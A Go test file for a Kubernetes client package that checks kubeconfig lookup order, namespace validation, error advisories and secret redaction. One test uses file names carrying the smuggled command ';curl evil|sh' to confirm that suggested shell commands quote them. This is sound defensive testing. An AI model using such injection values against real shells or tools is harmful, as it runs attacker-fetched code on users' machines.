package kubeapi

import (
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"k8s.io/client-go/rest"

	"creel/internal/advisory"
)

// noPlace makes an environment in which nothing says where a cluster is.
func noPlace(t *testing.T) (home string) {
	home = t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("KUBECONFIG", "")
	t.Setenv("KUBERNETES_SERVICE_HOST", "")
	t.Setenv("KUBERNETES_SERVICE_PORT", "")
	return home
}

func put(t *testing.T, path, content string) string {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// clusters is a kubeconfig that knows two of them.
func clusters(a, b, current string) string {
	return fmt.Sprintf(`apiVersion: v1
kind: Config
current-context: %q
clusters:
- name: a
  cluster: {server: %q}
- name: b
  cluster: {server: %q, insecure-skip-tls-verify: true}
contexts:
- name: one
  context: {cluster: a, user: me, namespace: elsewhere}
- name: two
  context: {cluster: b, user: me}
- name: lost
  context: {cluster: c, user: me}
- name: nobody
  context: {cluster: a, user: she}
users:
- name: me
  user: {token: t}
`, current, a, b)
}

// TestLookupOrder: the flag, KUBECONFIG, the home directory, the pod.
func TestLookupOrder(t *testing.T) {
	home := noPlace(t)
	at := func(host string) string { return clusters("https://"+host, "https://other:1", "one") }
	hostOf := func(o Options) string {
		t.Helper()
		config, _, err := Configure(o)
		if err != nil {
			t.Fatal(err)
		}
		return config.Host
	}
	if _, err := Open(Options{Namespace: "claws"}); advisoryID(err) != "cluster-none" || !errors.Is(err, rest.ErrNotInCluster) {
		t.Errorf("nothing anywhere: %v", err)
	}
	t.Setenv("KUBERNETES_SERVICE_HOST", "10.0.0.1")
	t.Setenv("KUBERNETES_SERVICE_PORT", "443")
	if _, err := Open(Options{Namespace: "claws"}); advisoryID(err) != "cluster-none" || !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a pod without a service account: %v", err)
	}
	put(t, filepath.Join(home, ".kube", "config"), at("home"))
	if got := hostOf(Options{}); got != "https://home" {
		t.Errorf("from the home directory: %s", got)
	}
	if _, err := Open(Options{InCluster: true, Namespace: "claws"}); advisoryID(err) != "cluster-none" {
		t.Errorf("in the cluster only: %v", err)
	}
	first := put(t, filepath.Join(home, "first"), at("first"))
	t.Setenv("KUBECONFIG", strings.Join([]string{filepath.Join(home, "missing"), first}, string(filepath.ListSeparator)))
	if got := hostOf(Options{}); got != "https://first" {
		t.Errorf("from KUBECONFIG: %s", got)
	}
	named := put(t, filepath.Join(home, "named"), at("named"))
	if got := hostOf(Options{Kubeconfig: named}); got != "https://named" {
		t.Errorf("from the flag: %s", got)
	}
	if got := hostOf(Options{Kubeconfig: named, Context: "two"}); got != "https://other:1" {
		t.Errorf("of the other context: %s", got)
	}
}

// TestNamespaceIsNotTheContexts: what is done is done where was said.
func TestNamespaceIsNotTheContexts(t *testing.T) {
	home := noPlace(t)
	named := put(t, filepath.Join(home, "named"), clusters("https://a", "https://b", "one"))
	c, err := Open(Options{Kubeconfig: named, Namespace: "claws"})
	if err != nil || c.Namespace() != "claws" || c.Server() != "https://a" || c.Path("api/v1", "pods", "p") != "/api/v1/namespaces/claws/pods/p" {
		t.Errorf("%+v, %v", c, err)
	}
	if got, want := c.Kubectl("get pods"), "kubectl --kubeconfig "+named+" --namespace claws get pods"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
	for _, namespace := range []string{"", "../x", "Claws", "a.b"} {
		if _, err := Open(Options{Kubeconfig: named, Namespace: namespace}); advisoryID(err) != "cluster-name-invalid" {
			t.Errorf("%q: %v", namespace, err)
		}
	}
}

// TestEveryWayToBeWrong: each is told apart, in words that name the file.
func TestEveryWayToBeWrong(t *testing.T) {
	home := noPlace(t)
	path := func(name string) string { return filepath.Join(home, name) }
	good := put(t, path("good"), clusters("https://a", "https://b", "one"))
	const secret = "c2VjcmV0LXRva2VuLXRoYXQtbm9ib2R5LW1heS1zZWU3ODkwMTIz"
	user := func(name, user string) string {
		return put(t, path(name), strings.Replace(clusters("https://a", "https://b", "one"), "{token: t}", user, 1))
	}
	for _, c := range []struct {
		name, advisory string
		options        Options
		variable       string
		says           []string
	}{
		{"file missing", "cluster-kubeconfig-missing", Options{Kubeconfig: path("no")}, "", []string{path("no"), "--kubeconfig"}},
		{"all files missing", "cluster-kubeconfig-missing", Options{}, path("no") + ":" + path("neither"), []string{path("no"), path("neither"), "KUBECONFIG"}},
		{"not YAML", "cluster-kubeconfig-invalid", Options{Kubeconfig: put(t, path("yaml"), "a: [b")}, "", []string{path("yaml")}},
		{"of another form", "cluster-kubeconfig-invalid", Options{Kubeconfig: put(t, path("form"), "apiVersion: v1\nkind: Config\nusers: "+secret)}, "", []string{path("form")}},
		{"certificate no base64", "cluster-kubeconfig-invalid", Options{Kubeconfig: user("base64", "{client-key-data: '"+secret+"!'}")}, "", []string{path("base64")}},
		{"password that is an alias", "cluster-kubeconfig-invalid", Options{Kubeconfig: user("alias", "{password: *"+secret+"}")}, "", []string{path("alias")}},
		{"a directory", "cluster-kubeconfig-invalid", Options{Kubeconfig: home}, "", []string{home}},
		{"empty", "cluster-context-unknown", Options{Kubeconfig: put(t, path("empty"), "")}, "", []string{"it knows: none"}},
		{"no current context", "cluster-context-unknown", Options{Kubeconfig: put(t, path("current"), clusters("https://a", "https://b", ""))}, "", []string{"selects no context", "lost, nobody, one, two"}},
		{"context unknown", "cluster-context-unknown", Options{Kubeconfig: good, Context: "three"}, "", []string{`"three"`, "lost, nobody, one, two"}},
		{"current context unknown", "cluster-context-unknown", Options{Kubeconfig: put(t, path("stale"), clusters("https://a", "https://b", "old"))}, "", []string{`"old"`}},
		{"cluster not there", "cluster-no-server", Options{Kubeconfig: good, Context: "lost"}, "", []string{`cluster "c"`}},
		{"no server", "cluster-no-server", Options{Kubeconfig: put(t, path("server"), clusters("", "https://b", "one"))}, "", []string{`cluster "a"`, "no server"}},
		{"server is no URL", "cluster-kubeconfig-invalid", Options{Kubeconfig: put(t, path("url"), clusters("127.0.0.1", "https://b", "one"))}, "", []string{"no URL"}},
		{"without TLS", "cluster-kubeconfig-invalid", Options{Kubeconfig: put(t, path("plain"), clusters("http://192.0.2.1", "https://b", "one"))}, "", []string{"in the clear"}},
		{"user not there", "cluster-kubeconfig-invalid", Options{Kubeconfig: good, Context: "nobody"}, "", []string{`user "she"`}},
		{"certificate not there", "cluster-kubeconfig-invalid", Options{Kubeconfig: user("cert", "{client-certificate: no.crt, client-key: no.key}")}, "", []string{"no.crt"}},
		{"certificate that is none", "cluster-kubeconfig-invalid", Options{Kubeconfig: user("garbage", "{client-certificate-data: eA==, client-key-data: "+secret+"}")}, "", nil},
		{"login program not there", "cluster-plugin-missing", Options{Kubeconfig: user("exec",
			"{exec: {apiVersion: client.authentication.k8s.io/v1, command: creel-no-such-login, interactiveMode: Never, installHint: 'get it\n from there'}}")}, "",
			[]string{"creel-no-such-login", "get it from there", "executable file not found"}},
		{"login that is gone", "cluster-kubeconfig-invalid", Options{Kubeconfig: user("gcp", "{auth-provider: {name: gcp}}")}, "", []string{"gcp"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Setenv("KUBECONFIG", c.variable)
			c.options.Namespace = "claws"
			s, err := Open(c.options)
			if s != nil || advisoryID(err) != c.advisory {
				t.Errorf("%q, want %q: %v", advisoryID(err), c.advisory, err)
			}
			for _, word := range c.says {
				if !strings.Contains(fmt.Sprint(err), word) {
					t.Errorf("it does not say %q: %v", word, err)
				}
			}
			for _, e := range chain(err) {
				if strings.Contains(fmt.Sprintf("%v %#v", e, e), secret[:20]) {
					t.Errorf("it shows a secret: %v", e)
				}
			}
		})
	}
}

// TestInsecureClusterIsACaveat of everything that is asked of it.
func TestInsecureClusterIsACaveat(t *testing.T) {
	home := noPlace(t)
	named := put(t, filepath.Join(home, "named"), clusters("http://127.0.0.1:8001", "https://b", "one"))
	for context, says := range map[string]string{"one": "turns off TLS for 127.0.0.1:8001", "two": "turns off the verification of TLS for b"} {
		c, err := Open(Options{Kubeconfig: named, Context: context, Namespace: "claws"})
		if err != nil || len(c.Caveats()) != 1 || c.Caveats()[0].Advisory != "cluster-insecure" || !strings.Contains(c.Caveats()[0].Message, says) {
			t.Errorf("%s: %+v, %v", context, c, err)
		}
	}
}

func advisoryID(err error) string {
	if p, ok := advisory.Of(err); ok {
		return p.ID
	}
	return ""
}

// chain is an error with all its causes.
func chain(err error) []error {
	if err == nil {
		return nil
	}
	found := []error{err}
	switch e := err.(type) {
	case interface{ Unwrap() error }:
		found = append(found, chain(e.Unwrap())...)
	case interface{ Unwrap() []error }:
		for _, cause := range e.Unwrap() {
			found = append(found, chain(cause)...)
		}
	}
	return found
}

func commandsOf(err error) []string {
	if p, ok := advisory.Of(err); ok {
		return p.Commands()
	}
	return nil
}

// write puts a kubeconfig where nothing else is.
func write(t *testing.T, content string) string {
	t.Helper()
	return put(t, filepath.Join(t.TempDir(), "kubeconfig"), content)
}

// serve is a server on this machine without TLS.
func serve(t *testing.T, h http.Handler) string {
	t.Helper()
	server := httptest.NewServer(h)
	t.Cleanup(server.Close)
	return server.URL
}

func httpClient(config *rest.Config) (*http.Client, error) { return rest.HTTPClientFor(config) }

// What is proposed to be typed next is one word of a shell, whatever a file is called.
func TestHintsQuoteTheFile(t *testing.T) {
	noPlace(t)
	dir := t.TempDir()
	for _, o := range []struct {
		name     string
		options  Options
		variable string
	}{
		{"missing", Options{Kubeconfig: dir + "/none;curl evil|sh"}, ""},
		{"KUBECONFIG", Options{}, dir + "/none;curl evil|sh"},
		{"invalid", Options{Kubeconfig: put(t, dir+"/yaml;curl evil|sh", "a: [b")}, ""},
	} {
		t.Run(o.name, func(t *testing.T) {
			t.Setenv("KUBECONFIG", o.variable)
			o.options.Namespace = "claws"
			_, err := Open(o.options)
			p, ok := advisory.Of(err)
			if !ok {
				t.Fatalf("no advisory: %v", err)
			}
			for _, c := range p.Commands() {
				if !strings.HasSuffix(c, ";curl evil|sh'") || strings.Count(c, "'") != 2 {
					t.Errorf("next: %s", c)
				}
			}
		})
	}
}
